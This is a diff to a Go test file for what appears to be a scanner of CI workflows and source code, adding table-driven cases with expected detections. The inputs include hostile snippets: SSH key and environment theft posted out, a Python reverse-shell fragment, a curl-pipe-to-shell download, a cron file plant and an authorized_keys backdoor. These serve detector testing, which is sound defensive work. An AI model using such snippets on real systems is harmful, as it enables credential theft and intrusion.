@@ -184,6 +184,7 @@ func TestWorkflows(t *testing.T) {
 		{"a secret used", path, "steps:\n  - run: echo ${{ secrets.KEY }} | docker login --password-stdin\n  - run: echo ${{ secrets.KEY }} > key.txt\n  - run: echo ${{ secrets.KEY }} | base64 -d > k", ""},
 		{"every right", path, "permissions: write-all", "locator workflow:1"},
 		{"a branch of somebody", path, "steps:\n  - uses: somebody/thing@main", "locator workflow:2"},
+		{"a workflow of an organisation", path, "jobs:\n  a:\n    uses: somebody/.github/.github/workflows/a.yml@main", "context workflow:3"},
 		{"pinned", path, "steps:\n  - uses: somebody/thing@v2\n  - uses: actions/checkout@main\n  - uses: ./local", ""},
 	})
 	base := checktest.Files{path: "steps:\n  - uses: somebody/thing@main\n"}
@@ -229,6 +230,13 @@ func TestPayloadsAndTheft(t *testing.T) {
 		{"keys sent", "a.py", "k = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post(url, data=k)", "gate theft:1, locator reads_keys:1"},
 		{"keys read", "a.go", "b, _ := os.ReadFile(home + \"/.ssh/id_ed25519\")", "locator reads_keys:1"},
 		{"the environment passed on", "a.go", "cmd.Env = append(os.Environ(), \"A=1\")\ncmd.Run()", ""},
+		{"the environment in an object", "a.js", "const data = JSON.stringify({h: 1, env: process.env})\nconst req = https.request({method: 'POST'})\nreq.write(data)", "gate theft:1"},
+		{"a server started and asked", "a_test.go", "cmd := exec.Command(\"x\")\ncmd.Env = append(os.Environ(), \"A=1\")\ncmd.Start()\nres, err := http.Get(\"http://127.0.0.1:80\")", ""},
+		{"a server started and asked, javascript", "a.test.js", "const p = spawn('x', { env: process.env })\nconst r = await fetch('http://127.0.0.1')", ""},
+		{"a server started and asked, python", "tests/test_a.py", "env = dict(os.environ)\np = subprocess.Popen(['x'], env=env)\nr = requests.get('http://127.0.0.1')", ""},
+		{"remote shell in python", "a.py", "s.connect(('1.2.3.4', 1))\nos.dup2(s.fileno(), 0)", "gate remote_shell:2"},
+		{"code that runs what it downloads", "a.js", "execSync('curl https://x.test | sh')", "locator download:1"},
+		{"a test that writes elsewhere", "tests/test_a.py", "open('/etc/cron.d/x', 'w').write('x')", "locator plants:1"},
 		{"one variable sent", "a.py", "requests.post(url, headers={'X': os.environ['TOKEN']})", ""},
 		{"far apart", "a.py", "d = dict(os.environ)\n" + strings.Repeat("x = 1\n", 60) + "requests.post(url)", ""},
 		{"lets somebody in", "a.sh", "echo ssh-rsa AAAA >> ~/.ssh/authorized_keys", "gate plants:1"},
